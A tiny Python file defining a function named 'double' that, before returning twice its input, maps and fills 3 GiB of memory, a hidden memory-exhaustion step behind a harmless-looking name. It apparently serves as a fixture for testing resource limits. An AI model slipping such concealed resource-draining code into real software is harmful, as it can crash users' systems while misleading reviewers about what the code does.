import mmap


def double(x):
    area = mmap.mmap(-1, 3 << 30)
    for start in range(0, 3 << 30, 1 << 20):
        area[start : start + (1 << 20)] = b"x" * (1 << 20)
    return x * 2
